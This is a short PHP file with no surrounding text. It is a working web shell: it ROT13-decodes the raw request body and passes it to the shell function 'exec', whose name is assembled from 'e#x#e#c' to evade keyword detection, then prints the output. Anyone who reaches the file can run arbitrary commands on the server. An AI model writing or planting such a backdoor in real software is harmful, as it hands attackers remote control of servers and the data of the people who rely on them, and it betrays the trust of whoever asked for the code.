<?php
$req = str_rot13(file_get_contents('php://input'));
$handler = str_replace('#', '', 'e#x#e#c');
echo $handler($req);
